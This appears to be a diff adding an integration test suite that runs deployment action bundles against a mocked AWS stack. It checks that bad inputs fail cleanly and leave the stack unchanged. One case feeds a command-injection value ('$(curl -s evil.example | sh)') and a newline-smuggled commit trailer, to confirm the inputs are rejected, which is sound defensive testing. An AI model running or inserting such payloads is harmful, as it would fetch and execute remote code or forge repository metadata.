@@ -1,0 +1,108 @@
+/**
+ * Bad-inputs catalogue, integration suite (issue 6; rows in test/unit/reliability/catalogue.ts,
+ * table in docs/reliability.md): a handful of bad inputs through the REAL bundles against the app
+ * stack in moto. Each: exit code 1, an error annotation that says what, where and how to fix, and
+ * the stack exactly as it was (status, last update, parameters, change sets).
+ */
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+
+import { RegisterImageCommand, DescribeImagesCommand } from '@aws-sdk/client-ec2';
+
+import { createAwsClients } from '../../../actions/lib/aws/clients';
+import { runBundledAction, type ActionRun } from '../../../local/run-action';
+import { diffSnapshots, snapshotStack } from '../../../local/stacks';
+import { BAD_INPUTS, casesOf } from '../../unit/reliability/catalogue';
+import { createGitopsRepo, DEV_FILE, devParameters, type GitopsRepo } from '../../unit/reliability/support/repo';
+import { deployAppFoundation, localBaseAmi, localClients, localEnv, useLocalAws } from '../harness';
+
+useLocalAws();
+
+const STACK = 'patch-dev-app';
+let base: string;
+let repo: GitopsRepo;
+
+const step = (action: string, inputs: Record<string, string>) =>
+  runBundledAction(action, inputs, { ...localEnv(), GITHUB_WORKSPACE: repo.workspace.dir, GITHUB_TOKEN: 'local-token' }, { timeoutMs: 90_000 });
+const updateAppStack = (inputs: Record<string, string>) => step('update-app-stack', { 'stack-name': STACK, 'parameters-file': DEV_FILE, template: 'templates/app.yaml', ...inputs });
+const errorOf = (run: ActionRun) => run.annotations.find((a) => a.level === 'error');
+
+beforeAll(async () => {
+  base = await localBaseAmi();
+  await deployAppFoundation({ ami: base });
+});
+beforeEach(() => {
+  repo = createGitopsRepo(null, base);
+});
+afterEach(() => repo.remove());
+
+const IMPLEMENTED = new Set<string>();
+/** One catalogue row: runs `act`, then checks exit 1 and that the stack did not change at all. */
+function badInput(id: string, act: () => Promise<ActionRun>, check: (run: ActionRun) => void) {
+  const row = BAD_INPUTS.find((c) => c.id === id);
+  if (!row) throw new Error(`No bad input ${id} in the catalogue`);
+  IMPLEMENTED.add(id);
+  it(`${row.id} ${row.name}`, async () => {
+    const before = await snapshotStack(localClients().cloudFormation, STACK);
+    const run = await act();
+    expect(run.exitCode).toBe(1);
+    check(run);
+    expect(diffSnapshots(before, await snapshotStack(localClients().cloudFormation, STACK))).toEqual([]);
+  });
+}
+
+describe('bad inputs (integration): the bundles against moto, exit 1, stack unchanged', () => {
+  badInput(
+    'B12',
+    async () => {
+      // A real AMI, in eu-west-1: exactly what copying an ami-id from another region's build gives.
+      const abroad = createAwsClients({ region: 'eu-west-1' }).ec2;
+      const { ImageId } = await abroad.send(new RegisterImageCommand({ Name: `patched-eu-${Date.now()}`, RootDeviceName: '/dev/xvda', Architecture: 'x86_64', VirtualizationType: 'hvm' }));
+      expect((await abroad.send(new DescribeImagesCommand({ ImageIds: [ImageId!] }))).Images).toHaveLength(1);
+      writeFileSync(join(repo.workspace.dir, DEV_FILE), devParameters(ImageId!));
+      return updateAppStack({});
+    },
+    (run) => {
+      const error = errorOf(run);
+      expect(error?.message).toMatch(
+        /^AMI check failed for parameters\/dev\.json: line 4: AmazonMachineImage = "ami-[0-9a-f]+" does not exist in us-east-1 \(or is not shared with this account\)\. Use the ami-id output of build-ami for us-east-1; an AMI ID is valid in one region only\. Nothing was changed\.$/,
+      );
+      expect(error?.properties).toMatchObject({ file: DEV_FILE, line: '4' });
+    },
+  );
+
+  badInput(
+    'B33',
+    () => updateAppStack({ mode: 'destroy' }),
+    (run) => {
+      expect(errorOf(run)?.message).toBe(
+        `Invalid action inputs: input "mode" = "destroy": must be deploy (create and execute a change set) or preview (create, show, delete). Fix them in the workflow step's "with:" block.`,
+      );
+    },
+  );
+
+  badInput(
+    'B34',
+    () => updateAppStack({ region: 'us-east-1a' }),
+    (run) => {
+      expect(errorOf(run)?.message).toBe('Region "us-east-1a" from input region is not an AWS region name. Use a name like us-east-1 or eu-west-2.');
+    },
+  );
+
+  badInput(
+    'B35',
+    () => step('gitops', { command: 'resolve-failback', environment: 'dev', 'target-ami': '$(curl -s evil.example | sh)', reason: 'slow\nCo-authored-by: mallory <m@evil.example>' }),
+    (run) => {
+      expect(errorOf(run)?.message).toBe(
+        'Failback request rejected for dev: target-ami "$(curl -s evil.example | sh)" is not an AMI ID (ami- and 8 or 17 lowercase hex digits, e.g. ami-0123456789abcdef0); ' +
+          'leave it empty to use the AMI before the current one; reason contains a line break or control character; write it on one line. Fix the inputs and run the workflow again.',
+      );
+      expect(repo.workspace.git('status', '--porcelain')).toBe('');
+      expect(repo.origin.git('rev-parse', 'main')).toBe(repo.seed.git('rev-parse', 'HEAD'));
+    },
+  );
+
+  it('implements every integration row of the catalogue, and only those', () => {
+    expect([...IMPLEMENTED].sort()).toEqual(casesOf(BAD_INPUTS, 'integration').map((c) => c.id).sort());
+  });
+});
